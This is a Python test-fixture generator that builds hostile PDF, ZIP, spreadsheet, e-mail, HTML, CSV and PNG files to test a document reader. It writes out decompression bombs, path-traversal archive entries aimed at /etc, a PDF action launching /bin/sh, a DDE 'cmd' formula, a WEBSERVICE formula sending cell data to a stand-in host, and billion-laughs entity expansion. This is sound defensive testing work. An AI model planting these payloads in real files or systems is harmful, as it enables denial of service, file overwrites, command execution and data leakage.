#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Makes files that attack whoever reads them, into the folder named: nothing in them does anything but cost or deceive.

    make_hostile_files.py DIR

Each is described by its name; tests/cli/read_hostile.txt says what `habeas read` makes of it. Standard library only.
"""
import io
import pathlib
import struct
import sys
import zipfile
import zlib

folder = pathlib.Path(sys.argv[1])
folder.mkdir(parents=True, exist_ok=True)


def write(name, data):
    (folder / name).write_bytes(data if isinstance(data, bytes) else data.encode())


# ---- PDF (ISO 32000-1) ----

def pdf(objects, trailer="", tail=None):
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    extra = trailer.replace("{at}", str(at))
    out += f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R{extra}>>\nstartxref\n{at}\n%%EOF\n".encode()
    return out


def page_with(content, extra=""):
    packed = zlib.compress(content, 9)
    stream = f"<</Length {len(packed)}/Filter/FlateDecode>>stream\n".encode() + packed + b"\nendstream"
    return ["<</Type/Catalog/Pages 2 0 R" + extra + ">>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>", stream,
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]


line = b"BT /F 12 Tf 72 700 Td (what the page says) Tj ET\n"
write("page-tree-that-goes-round.pdf", pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 3>>",
                                            "<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 3>>"]))
write("hundred-million-pages.pdf", pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 100000000>>",
                                        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"]))
write("xref-that-points-at-itself.pdf", pdf(page_with(line), "/Prev {at}"))
write("object-of-itself.pdf", pdf(page_with(line)[:3] + ["4 0 R", page_with(line)[4]]))
write("javascript-on-opening.pdf", pdf(page_with(line, "/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://example.org/'\\))>>")))
write("program-on-opening.pdf", pdf(page_with(line, "/OpenAction<</S/Launch/F(/bin/sh)>>")))
write("locked-by-a-password.pdf", pdf(page_with(line), "/Encrypt<</Filter/Standard/V 1/R 2/O(" + "o" * 32 + ")/U(" + "u" * 32 +
                                      ")/P -4>>/ID[<00><00>]"))
write("cut-in-the-middle.pdf", pdf(page_with(line * 50))[:420])
write("brackets-a-million-deep.pdf", pdf(page_with(line)[:3] + [b"[" * 1000000 + b"]" * 1000000, page_with(line)[4]]))
write("page-of-a-gigabyte.pdf", pdf(page_with(line + b" " * (1 << 28))))
write("page-a-kilometre-wide.pdf", pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                                        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 2834645 2834645]>>"]))


# ---- ZIP (APPNOTE 6.3) ----

def zipped(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data, *mode in parts:
            entry = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.create_system = 3
            entry.external_attr = (mode[0] if mode else 0o100644) << 16
            archive.writestr(entry, data)
    return out.getvalue()


write("bomb.zip", zipped([("zeros", bytes(1 << 28))]))
inner = zipped([("zeros", bytes(1 << 26))])
write("bomb-in-bombs.zip", zipped([(f"inner-{i}.zip", inner) for i in range(16)]))
write("names-that-climb.zip", zipped([("kept.txt", "kept"), ("../../../etc/cron.d/job", "no"), ("/etc/passwd", "no"), ("a/../../b", "no"),
                                      ("C:\\windows\\system32\\x", "no"), ("link", "/etc/passwd", 0o120777)]))
# Every entry of the directory names the same bytes: a small file that unpacks without end.
one = zipped([("a", bytes(1 << 20))])
at = one.index(b"PK\x01\x02")
entry, local = one[at:one.index(b"PK\x05\x06")], one[:at]
count = 2000
entries = b"".join(entry[:46] + b"%06d" % i + b"" for i in range(count))
entries = b"".join(entry[:28] + struct.pack("<H", 6) + entry[30:46] + b"%06d" % i for i in range(count))
write("entries-that-overlap.zip", local + entries + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(entries), len(local), 0))
write("hundred-thousand-members.zip", zipped([(f"{i}", "") for i in range(100000)]))

# ---- Spreadsheets and documents ----

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def xlsx(sheet, extra=()):
    return zipped([
        ("[Content_Types].xml", "<Types/>"),
        ("xl/workbook.xml", f'<workbook {MAIN} xmlns:r="{REL}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         f'<Relationship Id="r1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
        ("xl/worksheets/sheet1.xml", sheet), *extra])


def sheet(rows):
    return f"<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>"


cell = lambda place, formula, value: f'<c r="{place}" t="str"><f>{formula}</f><v>{value}</v></c>'
write("formulas-that-reach-out.xlsx", xlsx(sheet(
    '<row r="1">' + cell("A1", "cmd|&apos; /C calc&apos;!A0", "one") + cell("B1", "WEBSERVICE(&quot;http://example.org/?&quot;&amp;A2)", "two")
    + cell("C1", "[1]Other!A1", "three") + "</row>"), [
        ("xl/externalLinks/_rels/externalLink1.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         f'<Relationship Id="r1" Type="{REL}/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>')]))
write("millions-of-empty-cells.xlsx", xlsx(sheet("".join(f'<row r="{row}">' + "<c/>" * 2000 + "</row>" for row in range(1, 2001)))))
write("the-last-cell-alone.xlsx", xlsx(sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')))
laughs = "<!DOCTYPE w [<!ENTITY a \"ha\">" + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(12)) + "]>"
write("a-billion-laughs.xlsx", xlsx(laughs + sheet('<row r="1"><c r="A1" t="str"><v>&m;</v></c></row>')))
ODS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
       'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
write("a-cell-repeated-seventeen-billion-times.ods", zipped([
    ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
    ("content.xml", f'<office:document-content {ODS}><office:body><office:spreadsheet><table:table table:name="T">'
     '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string">'
     '<text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>')]))
write("divisions-two-hundred-thousand-deep.html", "<!DOCTYPE html>" + "<div>" * 200000 + "words" + "</div>" * 200000)
write("a-row-of-a-million-columns.csv", "a,b\n" + "," * 1000000 + "\n1,2\n")
write("a-quotation-that-never-ends.csv", 'a,b\n1,"' + "x" * 5000000 + "\n2,3\n")


# ---- E-mail ----

def nested(depth):
    out = "Content-Type: text/plain\r\n\r\nthe innermost words\r\n"
    for level in range(depth):
        out = f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n{out}\r\n--b{level}--\r\n"
    return "From: a@example.org\r\nMIME-Version: 1.0\r\n" + out


write("parts-in-parts-two-thousand-deep.eml", nested(2000))
message = "Subject: innermost\r\n\r\nwords\r\n"
for _ in range(500):
    message = "Subject: outer\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + message
write("letters-in-letters.eml", "From: a@example.org\r\n" + message)
write("twenty-thousand-attachments.eml", "From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + "".join(
    "--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=x\r\n\r\nx\r\n" for _ in range(20000)) + "--b--\r\n")


# ---- Images ----

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


write("a-picture-of-ten-billion-pixels.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100000, 100000, 8, 0, 0, 0, 0)) +
      chunk(b"IDAT", zlib.compress(bytes(1 << 20), 9)) + chunk(b"IEND", b""))
